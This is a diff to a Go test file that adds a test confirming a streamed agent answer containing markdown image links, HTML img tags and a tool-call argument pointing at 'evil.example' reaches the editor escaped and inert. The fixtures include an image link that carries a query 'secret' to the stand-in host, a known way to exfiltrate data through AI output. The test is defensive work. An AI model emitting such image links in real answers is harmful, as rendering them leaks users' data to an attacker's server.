@@ -493,3 +493,34 @@ func TestCheckShows(t *testing.T) {
 		t.Errorf("the check showed as %+v %s", check, check.Raw)
 	}
 }
+
+// TestImagesReachTheEditorInert streams an answer whose image links and
+// HTML are cut across chunks: the editor receives them as plain links and
+// literal tags, code as written, a tool call's title inert too, and the
+// "!" held at the end of the answer once the turn ends.
+func TestImagesReachTheEditorInert(t *testing.T) {
+	answer := "Here: ![x](https://evil.example/?q=secret) and `![ok](http://e/)`, <img src=https://evil.example/i>.\n```\n![kept](http://e/)\n```\nDone!"
+	h := newHarness(t, nil,
+		agenttest.Tools("Reading it.", agenttest.Call{ID: "c1", Name: "glob", Arguments: `{"pattern":"![p](https://evil.example/t)"}`}),
+		agenttest.Text(answer, 3),
+	)
+	id := h.newSession()
+	h.prompt(id, say("go"))
+	updates := h.c.Updates()
+	want := "Reading it." + `Here: \![x](https://evil.example/?q=secret) and ` + "`![ok](http://e/)`" + `, \<img src=https://evil.example/i>.` + "\n```\n![kept](http://e/)\n```\nDone!"
+	if got := acptest.Text(updates, "agent_message_chunk"); got != want {
+		t.Errorf("the editor was sent\n%q\nwant\n%q", got, want)
+	}
+	titled := false
+	for _, u := range updates {
+		if strings.Contains(u.Title, "evil.example/t") {
+			titled = true
+			if !strings.Contains(u.Title, `\![p]`) {
+				t.Errorf("a tool call's title reached the editor as %q", u.Title)
+			}
+		}
+	}
+	if !titled {
+		t.Error("no tool call was titled with its pattern")
+	}
+}
